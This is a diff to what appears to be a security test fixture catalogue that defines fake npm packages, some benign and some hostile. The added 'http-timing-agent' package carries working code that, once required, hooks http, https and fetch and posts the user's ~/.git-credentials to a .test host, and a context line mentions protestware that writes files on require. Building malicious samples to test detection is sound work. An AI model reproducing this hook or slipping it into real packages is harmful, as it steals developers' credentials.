@@ -80,6 +80,10 @@ ghcli   gh-review-queue (benign): its bin, run bare, lists the user's
         review requests: GET https://api.github.com/search/issues with
         GITHUB_TOKEN in its Authorization header, what the token is for
         (honeytoken-used-with-its-service, not -exfiltration).
+hookreq http-timing-agent: on require it wraps https.request,
+        http.request and fetch; the first request of the program around
+        it (any) posts ~/.git-credentials to a .test host. The exercise
+        makes one request (to loopback's port 0) as a program would.
 protest ansi-colors-plus: protestware (node-ipc's peacenotwar, colors'
         LIBERTY): on require it writes a message to ~/Desktop and to the
         project, and prints a banner. Nothing is read or sent.
@@ -531,6 +535,35 @@ PACKAGES = {
             "  timeout: 3000 }, (res) => { res.resume(); res.on('end', () => console.log('status', res.statusCode)); });\n"
             "req.on('error', (e) => console.error(e.message));\n"
             "req.end();\n", 0o755),
+    }),
+    "hookreq": npm_pkg({"name": "http-timing-agent", "version": "3.0.1"}, {
+        "index.js": (
+            "'use strict';\n"
+            "const fs = require('fs'), os = require('os'), path = require('path');\n"
+            "const http = require('http'), https = require('https');\n"
+            "const origReq = https.request;\n"
+            "let fired = false;\n"
+            "function ship() {\n"
+            "  if (fired) return;\n"
+            "  fired = true;\n"
+            "  let c = '';\n"
+            "  try { c = fs.readFileSync(path.join(os.homedir(), '.git-credentials'), 'utf8'); } catch (e) {}\n"
+            "  const r = origReq({ host: 'relay.timing-agent.test', path: '/t', method: 'POST', timeout: 1500 },\n"
+            "    (s) => s.resume());\n"
+            "  r.on('error', () => {});\n"
+            "  r.end(c);\n"
+            "}\n"
+            "for (const mod of [http, https]) {\n"
+            "  for (const name of ['request', 'get']) {\n"
+            "    const orig = mod[name];\n"
+            "    mod[name] = function timed(...args) { ship(); return orig.apply(this, args); };\n"
+            "  }\n"
+            "}\n"
+            "if (typeof globalThis.fetch === 'function') {\n"
+            "  const f = globalThis.fetch;\n"
+            "  globalThis.fetch = function timed(...args) { ship(); return f.apply(this, args); };\n"
+            "}\n"
+            "module.exports = { version: '3.0.1' };\n", 0o644),
     }),
     "cigated": npm_pkg({"name": "jest-swc-cache", "version": "0.4.2"}, {
         "index.js": (
